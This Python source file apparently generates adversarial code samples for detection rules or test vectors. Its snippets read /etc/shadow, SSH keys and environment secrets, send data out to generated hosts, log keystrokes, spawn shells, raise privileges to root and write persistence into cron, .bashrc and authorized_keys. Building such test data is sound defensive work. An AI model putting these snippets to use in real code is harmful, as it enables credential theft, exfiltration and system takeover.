"""Families of K2 and K4 that rules and vectors may be made from."""

from __future__ import annotations

from random import Random

from volt.data.adversarial.deeds import Block, Deed, Families, file_name, host, one_of, url


def _send_socket(rng: Random) -> Deed:
    return rng.choice(
        [
            Deed("socket", "socket", "", f"link = {{call}}\nlink.connect(({host(rng)}, 4444))\nlink.send(b'data')"),
            Deed("socket", "create_connection", f"({host(rng)}, 443)", "{call}.sendall(b'data')"),
        ]
    )


def _fetch(rng: Random) -> Deed:
    return rng.choice(
        [
            Deed("urllib.request", "urlopen", url(rng), "reply = {call}.read()"),
            Deed("urllib.request", "urlretrieve", f"{url(rng)}, 'tool.bin'"),
            Deed("urllib.request", "urlopen", f"{url(rng)}, data=open({file_name(rng)}, 'rb').read()"),
        ]
    )


def _post(rng: Random) -> Deed:
    data = f"open({file_name(rng)}).read()"
    return rng.choice(
        [
            Deed("requests", "post", f"{url(rng)}, data={data}"),
            Deed("requests", "get", f"{url(rng)}, params={{'q': {data}}}"),
            Deed("httpx", "post", f"{url(rng)}, content={data}"),
        ]
    )


def _connect(rng: Random) -> Deed:
    return rng.choice(
        [
            Deed("http.client", "HTTPSConnection", host(rng), "{call}.request('POST', '/', 'data')"),
            Deed("ftplib", "FTP", host(rng), f"{{call}}.storbinary('STOR x', open({file_name(rng)}, 'rb'))"),
            Deed("smtplib", "SMTP", host(rng), "{call}.sendmail('a@b.c', 'd@e.f', 'data')"),
        ]
    )


def _private_file(rng: Random) -> Deed:
    path = rng.choice(
        ["/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/home/me/.aws/credentials", "/proc/self/environ",
         "/home/me/.netrc", "/home/me/.bash_history"]
    )  # fmt: skip
    return Deed("builtins", "open", repr(path), "stolen = {call}.read()")


def _private_path(rng: Random) -> Deed:
    tail = rng.choice(["'.ssh' / 'id_rsa'", "'.aws' / 'credentials'", "'.gnupg' / 'secring.gpg'", "'.netrc'"])
    return Deed("pathlib", "Path", "'/home/me'", f"stolen = ({{call}} / {tail}).read_text()")


def _environment(rng: Random) -> Block | Deed:
    name = rng.choice(["API_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "GITHUB_TOKEN"])
    ways: list[Block | Deed] = [
        Deed("os", "getenv", repr(name), "stolen = {call}"),
        Block(f"import os\nstolen = os.environ[{name!r}]"),
        Block("import os\nstolen = dict(os.environ)"),
        Block("import os as system\nfor key, value in system.environ.items():\n    print(key, value)"),
    ]
    return rng.choice(ways)


PRIVACY: Families = {
    "send by socket": ("K2", _send_socket),
    "fetch": ("K2", _fetch),
    "post": ("K2", _post),
    "connect": ("K2", _connect),
    "private file": ("K2", _private_file),
    "private path": ("K2", _private_path),
    "environment": ("K2", _environment),
    "watch": (
        "K2",
        one_of(
            Deed("pynput.keyboard", "Listener", "on_press=print", "{call}.start()"),
            Deed("PIL.ImageGrab", "grab", "", "{call}.save('screen.png')"),
            Deed("pyperclip", "paste", "", "stolen = {call}"),
        ),
    ),
    "look up names": (
        "K2",
        one_of(
            Deed("socket", "gethostbyname", "'stolen.example.org'"),
            Deed("socket", "getaddrinfo", "'stolen.example.org', 53"),
            Deed("webbrowser", "open", "'http://example.org/?stolen'"),
        ),
    ),
}


def _run_program(rng: Random) -> Deed:
    program = rng.choice(["ls", "id", "whoami", "python3 -V"])
    return rng.choice(
        [
            Deed("subprocess", rng.choice(["run", "Popen", "call", "check_output"]), f"[{program!r}]"),
            Deed("subprocess", "getoutput", repr(program)),
            Deed("os", rng.choice(["system", "popen"]), repr(program)),
        ]
    )


def _replace_process(rng: Random) -> Deed:
    return rng.choice(
        [
            Deed("os", "execv", "'/bin/sh', ['sh']"),
            Deed("os", "execlp", "'sh', 'sh'"),
            Deed("pty", "spawn", "'/bin/sh'"),
            Deed("os", "posix_spawn", "'/bin/sh', ['sh'], {}"),
        ]
    )


def _persist(rng: Random) -> Deed:
    path = rng.choice(["/etc/cron.d/job", "/home/me/.bashrc", "/home/me/.profile", "/etc/rc.local",
                       "/etc/systemd/system/x.service", "/root/.ssh/authorized_keys"])  # fmt: skip
    return Deed("builtins", "open", f"{path!r}, 'a'", "{call}.write('* * * * * run')")


POWER: Families = {
    "run a program": ("K4", _run_program),
    "replace the process": ("K4", _replace_process),
    "persist": ("K4", _persist),
    "native code": (
        "K4",
        one_of(
            Deed("ctypes", "CDLL", "None"),
            Deed("ctypes", "cdll", "", "native = {call}"),
            Deed("ctypes.util", "find_library", "'c'"),
            Deed("cffi", "FFI", "", "{call}.dlopen(None)"),
        ),
    ),
    "privileges": (
        "K4",
        one_of(
            Deed("os", "setuid", "0"),
            Deed("os", "setresuid", "0, 0, 0"),
            Deed("os", "chroot", "'/'"),
            Deed("os", "chown", "'/bin/sh', 0, 0"),
            Deed("os", "chmod", "'/tmp/x', 0o4755"),
            Deed("resource", "setrlimit", "0, (-1, -1)"),
        ),
    ),
    "install": (
        "K4",
        one_of(
            Deed("pip", "main", "['install', 'x']"),
            Deed("winreg", "OpenKey", "0, 'Run'"),
            Deed("subprocess", "check_call", "['pip', 'install', 'x']"),
            Deed("os", "system", "'crontab -l'"),
        ),
    ),
}
